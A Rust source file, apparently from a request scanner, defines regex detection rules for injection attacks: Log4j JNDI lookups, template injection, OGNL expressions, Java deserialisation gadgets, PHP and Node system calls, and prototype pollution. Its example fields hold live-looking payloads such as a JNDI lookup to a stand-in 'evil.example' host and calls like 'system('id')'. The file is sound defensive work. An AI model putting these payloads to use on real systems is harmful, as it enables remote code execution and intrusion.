//! Code of other languages, templates and expressions, lookups, and objects that were serialised.

use super::{Places, Rule};

const STRICT: Places = Places::STRICT;
const GIVEN: Places = Places::GIVEN;
const ALL: Places = Places::ALL;

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "code-jndi",
        score: 5,
        looks_for: "a lookup of Log4j, also where others hide it",
        example: "${jndi:ldap://evil.example/a}",
        places: ALL,
        patterns: &[
            r"\$\{\s*(?:jndi|lower|upper|env|sys|java|date|ctx|main|k8s|docker|bundle|sd|web|spring|base64|url|script|dns|const|event|log4j)\s*:|\$\{[^}]*:-|\$\{\$\{|\$\{::|jndi\s*:\s*(?:ldap|rmi|dns|iiop|nis|corba|http)|:-?j\}",
        ],
    },
    Rule {
        id: "code-template",
        score: 5,
        looks_for: "an expression that a template engine would compute",
        example: "{{7*7}}",
        places: ALL,
        patterns: &[
            r"\{\{\s*[\w.]+\([^)]*\)\s*[|}]|\{\{[^}]*(?:\d\s*[*+/-]\s*['\x22]?\d|__|\.\s*\w+\s*[(\[]|\(\s*['\x22)]|\[['\x22]|\|\s*\w+|config\b|self\b|request\b|constructor|''|\x22\x22|lipsum|cycler|range\s*\(|\$on)|\{%\s*(?:if|for|set|import|include|block|extends|with|macro|raw|debug|load|print)\b|<%[=@#\s!-]?\s*[\w'\x22=]|[$#@*]\{\s*['\x22]?\d+\s*[*+/-]\s*['\x22]?\d+|[$#*@]\{\s*(?:t\s*\(|new\s|class\.|request\b|session\b|application\b|param\b|runtime|java|system|ognl|facescontext|''|\x22\x22|@|#\w+|\(#|\w+\.(?:getclass|class|exec)|\w+\.\w+\()|\$\{\s*\x22|#set\s*\(\s*\$|#(?:include|parse|evaluate|foreach)\s*\(|<#(?:assign|list|include|if)\b|\?new\(\)|\{php\}|\{/?(?:literal|smarty)|\{system\(|\{\$smarty|@\(\s*\d+\s*[*+-]\s*\d+\s*\)|\{\{=|\[\[\$\{|__\$\{|\{\{\{|\{\{<%|\{\s*\d+\s*\*\s*\d+\s*\}|\$!?[a-z]\w*\.[a-z]\w*\([^)]*\)",
        ],
    },
    Rule {
        id: "code-template-words",
        score: 5,
        looks_for: "brackets of a template in a field that is no prose",
        example: "#{ x }",
        places: GIVEN,
        patterns: &[
            r"\{\{.+\}\}|[#$*@]\s*\{[^}]+\}|<%.+%>|\{%.+%\}|\[%.+%\]|\{[\^#/]\w+\}|\$\s*\{\s*[\w'\x22@$]|\{@\w|%\{\s*[#(@\w]",
        ],
    },
    Rule {
        id: "code-expression",
        score: 5,
        looks_for: "an expression of OGNL, SpEL or MVEL, or the objects that it reaches for",
        example: "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        places: ALL,
        patterns: &[
            r"#_memberaccess|@ognl\.|\(#\w+\s*=\s*|#\w+\s*=\s*(?:@|new\s|#)|@java\.lang\.|\bclass\s*\.\s*(?:module|classloader|forname|protectiondomain)|\bgetclass\s*\(\s*\)|\bgetruntime\s*\(|\bruntime\s*\.\s*(?:exec|getruntime)|\bxwork\.|denymethodexecution|allowstaticmethodaccess|\bt\s*\(\s*java\.|\bclassloader\.\w|\bscriptengine",
        ],
    },
    Rule {
        id: "code-java",
        score: 5,
        looks_for: "a class of Java or its libraries",
        example: "java.lang.Runtime",
        places: STRICT,
        patterns: &[
            r"\b(?:javax?|jdk|sun|com\.sun|com\.opensymphony|com\.mchange|com\.alibaba|com\.rometools|org\.(?:apache|omg|springframework|codehaus|hibernate|jboss|python|mozilla|xml|w3c|eclipse)|groovy|freemarker|ognl|bsh|clojure|net\.(?:bytebuddy|sf))\s*\.\s*[a-z_]\w*",
            r"\b(?:java\W{1,4})?(?:processbuilder|processimpl|unixprocess|classloader|urlclassloader|templatesimpl|scriptenginemanager|freemarker|runtime)\b\s*[.(=]|\b(?:clonetransformer|forclosure|instantiatefactory|instantiatetransformer|invokertransformer|prototypeclonefactory|prototypeserializationfactory|whileclosure|getproperty|filewriter|xmldecoder|constanttransformer|chainedtransformer)\b|\bjava\.\w+",
        ],
    },
    Rule {
        id: "code-java-prose",
        score: 5,
        looks_for: "a class of Java that runs programs or builds objects",
        example: "new java.lang.ProcessBuilder(\"id\")",
        places: Places::PROSE.and(Places::DOCUMENT),
        patterns: &[
            r"\bjavax?\.(?:lang\.(?:runtime|process\w*|system|class|reflect)|script\.|naming\.|net\.url|io\.\w+(?:stream|reader|writer)|rmi\.)|\bprocessbuilder\s*\(|\borg\.apache\.commons\.collections|invokertransformer|com\.sun\.rowset",
        ],
    },
    Rule {
        id: "code-serialised",
        score: 5,
        looks_for: "an object that was serialised by Java, PHP, .NET, Python, Ruby or Node",
        example: "O:8:\"stdClass\":1:{s:1:\"a\";i:2;}",
        places: ALL,
        patterns: &[
            r"(?:^|[^\w])[oc]:\+?\d+:\x22[\w\\]*\x22:\d*:?\{?|\ba:\d+:\{(?:i|s):\d|\brO0AB[\w+/]|\bH4sIAAAA|\bAAEAAAD/|\xac\xed\x00\x05|\xac\xed\x05|\b(?:kwyuy|ks0abx)|_\$\$nd_func\$\$_|__js_function|\bcos\nsystem|c__builtin__|!!python/|!ruby/(?:object|hash)|\$type\x22?\s*:\s*\x22?system\.|objectdataprovider|\bgASV|\x80\x04\x95|!!javax?\.|ysoserial|#\{\s*=",
        ],
    },
    Rule {
        id: "code-php",
        score: 5,
        looks_for: "code of PHP: its tags, globals, wrappers",
        example: "<?php system('id'); ?>",
        places: ALL,
        patterns: &[
            r"<\?\s*(?:php|=|@|\$|echo|system|exec|print|eval|passthru|require|include|if\s*\(|xml\s*:)|\?>\s*$|[\[{]/?php[\]}]|\$_?(?:get|post|request|cookie|files|server|env|session|globals)\s*(?:\[|\{)|\$(?:globals|_\w+)\b\s*\[|\b(?:php|phar|expect|zip|zlib|glob|ogg|rar|ssh2(?:\.\w+)?|compress\.\w+)://\W?\w*|\$\w+\s*=\s*(?:@?\$|new\s|array\s*\(|fopen|['\x22][^'\x22]*['\x22]\s*\.\s*['\x22])|\$\w*(?:\[\s*['\x22@]?[\w!+-]+\s*['\x22]?\s*\])+\s*\(|\$\w+\s*->\s*\$?\w+\s*\(",
        ],
    },
    Rule {
        id: "code-php-words",
        score: 5,
        looks_for: "tags, variables that are called, and settings of PHP in a field that is no prose",
        example: "$a(1)",
        places: GIVEN.and(Places::AGENT),
        patterns: &[
            r"<\?(?:$|\s|=|php)|(?:^|[^\w])[@$]*\$[\w{][^\s(]*\s{0,4}\(|\$\{[^}]*\}\s*\(|\$\$\w+|\$_[a-z]+\b|\$\w+\s*(?:/\*|#|//)",
            r"\[\s*['\x22]?\w+['\x22]?\s*\]\s*(?:\[\s*\d\s*\])\s*[({]|\(\s*\W{0,3}\w+\W{0,3}\)\s*(?:\[\s*\d\s*\]\s*)*\(\s*['\x22]?\w|['\x22][\w\\]+['\x22]\s*\(\s*['\x22\w$]|\]\s*\(\s*['\x22\w]+\s*\)",
            r"^\s*(?:opcache|session|mbstring|zend|assert|mail|soap|curl|openssl|phar|pcre|date|ffi|xmlrpc\w*|mysqli|sqlite3|user_agent|url_rewriter|highlight|hard_timeout|allow_url_(?:fopen|include)|auto_(?:append|prepend)_file|disable_(?:functions|classes)|open_basedir|safe_mode\w*|extension(?:_dir)?|error_(?:log|reporting)|display_errors|include_path|upload_\w+|max_\w+|memory_limit|register_\w+|magic_quotes\w*|output_\w+|precision|smtp|sendmail_\w+|unserialize_\w+|doc_root|docref_\w+|short_open_tag|variables_order|default_\w+|enable_\w+|file_uploads|cgi\.\w+|cli\.\w+|log_errors|user_dir|sys_temp_dir|serialize_precision|input_encoding|implicit_flush|browscap|arg_separator)[.\w]*\s*=",
        ],
    },
    Rule {
        id: "code-function",
        score: 5,
        looks_for: "a call of a function that reads files, runs programs or code, or tells of the server",
        example: "system(whoami)",
        places: GIVEN.and(Places::REFERER),
        patterns: &[
            r"(?:\b|_|foo)(?:array_(?:map|filter|walk|diff_ukey)|assert(?:_options)?|base64_(?:de|en)code|basename|bin2hex|bzdecompress|bzopen|call_user_func\w*|chdir|chgrp|chmod|chown|chroot|clearstatcache|copy|create_function|ctype_\w+|curl_(?:exec|init|\w+)|define|dir(?:name)?|dl|end|error_log|escapeshell\w+|eval|exec|exif_\w+|exit|die|extract|f(?:close|eof|flush|get(?:c|csv|s)|ile(?:_(?:exists|get_contents|put_contents)|group|owner|perms|size|type|mtime)?|lock|open|passthru|printf|put(?:csv|s)|read|scanf|seek|sockopen|stat|write)|ftp_\w+|func_get_args?|get(?:_(?:cfg_var|current_user|defined_(?:vars|functions|constants)|included_files|meta_tags|object_vars)|cwd|env|gid|ini|inode|lastmod|mypid|uid|hostbyname|image\w+)|gz(?:compress|decode|deflate|encode|file|getc|gets|inflate|open|passthru|puts|read|uncompress|write)|hash(?:_\w+)?|header(?:s_\w+)?|hex2bin|highlight_\w+|html(?:entities|specialchars)\w*|image\w+|implode|include(?:_once)?|ini_(?:set|get\w*|restore|alter)|intval|is_(?:a|array|bool|callable|dir|executable|file|link|numeric|object|readable|string|uploaded_file|writ\w+)|iterator_apply|json_(?:de|en)code|link(?:info)?|lstat|mail|mb_\w+|md5(?:_file)?|mkdir|move_uploaded_file|mysqli?_\w+|ob_\w+|opendir|openlog|openssl_\w+|ord|pack|parse_(?:ini_file|ini_string|str|url)|passthru|pathinfo|pclose|pcntl_\w+|pfsockopen|php(?:info|_uname|credits|version|_sapi_name)|popen|posix_\w+|preg_\w+|print_?r?|printf|proc_(?:open|close|get_status|nice|terminate)|putenv|rand|raw(?:url(?:en|de)code)|read(?:dir|file|gzfile|line|link)|realpath|register_\w+|rename|require(?:_once)?|reset|return|rewinddir|rmdir|scandir|sess?ion_\w+|set(?:_\w+|cookie)|serialize|sha1(?:_file)?|shell_exec|show_source|simplexml_\w+|sleep|socket_\w+|spl_autoload\w*|split|sprintf|sscanf|stat|str(?:_(?:rot13|repeat|replace|split)|ip_tags|ipslashes|len|pos|rev|str|tolower|toupper|tr)|stream_\w+|substr\w*|symlink|syslog|system|tempnam|tmpfile|touch|trigger_error|uasort|ucfirst|uksort|umask|uniqid|unlink|unpack|unserialize|urldecode|urlencode|usleep|usort|var_(?:dump|export)|vprintf|win32_\w+|xml_\w+|zip_\w+|zlib_\w+)[=\x22'\])]{0,2}(?:\(|\s*(?:#[^\n]*\n|//[^\n]*\n)?\s*\(\s*(?:$|['\x22$)\d&]|\w+\)))",
            r"\b(?:print|echo)\s*\(?\s*['\x22$]|\breturn\s*\(?['\x22]\w+['\x22]\s*\(|\bphpinfo\b|\bnew\s+(?:function|splfileobject|simplexmlelement|\w+exception)\b",
        ],
    },
    Rule {
        id: "code-function-prose",
        score: 5,
        looks_for: "a call of a function that runs programs or code, with an argument that makes sense",
        example: "system('id')",
        places: ALL,
        patterns: &[
            r"\b(?:eval|exec|system|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|create_function|call_user_func(?:_array)?|base64_decode|gzinflate|file_(?:get|put)_contents|unserialize|preg_replace|include|require(?:_once)?|readfile|fsockopen|os\.(?:system|popen|exec\w+|spawn\w+)|subprocess\.\w+|__import__|process\.(?:spawn|exec)|kernel\.(?:exec|system|open)|io\.popen|child_process\.\w+|execsync|spawnsync)\s*\(\s*(?:['\x22`]\s*[\w/\\.-]+|\$|base64|gz|str_rot13|chr\(|request\.|params|_|getenv|f\x22)|\bphp(?:info|version|_uname|credits)\s*\(\s*\w*\s*\)|(?:^|['\x22;}])\s*\.?(?:exit|die|print|print_r|printf|var_dump|md5)\(\s*(?:['\x22$]|\w+\()|\bnew\s+date\s*\(\s*\)\s*;",
        ],
    },
    Rule {
        id: "code-script",
        score: 5,
        looks_for: "modules and objects of Node, Python, Ruby and Perl that reach the system",
        example: "require('child_process').exec('id')",
        places: ALL,
        patterns: &[
            r"\brequire\s*\(\s*['\x22]\w|\brequire\(`\w|\bchild_process\b|\bprocess\s*(?:\.\s*(?:env\b|mainmodule|binding|exit\s*\(|kill\s*\(|argv|versions?)|\[\s*['\x22])|\bglobal\s*\.\s*process|this\s*\.\s*constructor|\bconstructor\s*\.\s*constructor|\bmodule\.exports|\b__(?:class|mro|subclasses|globals|builtins|import|init|base|bases|dict|getattribute)__|\bos\s*\.\s*(?:system|popen|exec|spawn|environ|listdir)\b|\bsubprocess\s*\.\s*(?:popen|call|run|check_output)|\b(?:process|kernel|io|open3|file|dir|pty)\s*\.\s*(?:spawn|popen|exec|fork|syscall|capture|read\s*\(\s*['\x22]|open\s*\(\s*['\x22])|%x[(\[{]\w|\bobjectspace\b|\bfs\s*\.\s*(?:read|write|unlink|exists)\w*\s*\(|\bbuffer\s*\.\s*from\s*\(|\bimport\s+(?:os|sys|subprocess|pty|socket)\b|\bpickle\.loads|\buse\s+socket;|\$:1337",
        ],
    },
    Rule {
        id: "code-script-words",
        score: 5,
        looks_for: "loops, calls of objects and the like in a field that is no prose",
        example: "while(true)",
        places: GIVEN,
        patterns: &[
            r"\bwhile\s*\([^)]*\)\s*[;{]?\s*$|\b(?:process|require|console|global|module)\s*(?:\[\s*\w|\.\s*\w+\s*\.\s*\w+\s*\()|\b(?:while|for|if|switch|catch)\s*\(\s*(?:[!+(-]|true|1|this|new\b|infinity|;|var\s|let\s|const\s|\w+\s*[<>=!]=?|null|nan|['\x22`\[{])|\b(?:console|process|math|json|reflect|object|string|array|buffer|module|global)\s*(?:\.\s*\w+\s*\(|\[\s*['\x22])|\b(?:var|let|const)\s+\w+\s*=\s*\S|\bfunction\s*\(|\bthis\s*\.\s*\w+\s*[.(=]|\bnew\s+(?:function|date|array)\b",
        ],
    },
    Rule {
        id: "code-prototype",
        score: 5,
        looks_for: "the prototype of all objects of JavaScript",
        example: "__proto__[admin]=1",
        places: ALL,
        patterns: &[
            r"__proto__|\bconstructor\s*(?:\.|\]?\s*\[|:)\s*(?:prototype|constructor)|\[\s*['\x22]?(?:constructor|prototype)['\x22]?\s*\]\s*\[?|\bprototype\s*\[|__define[gs]etter__",
        ],
    },
];
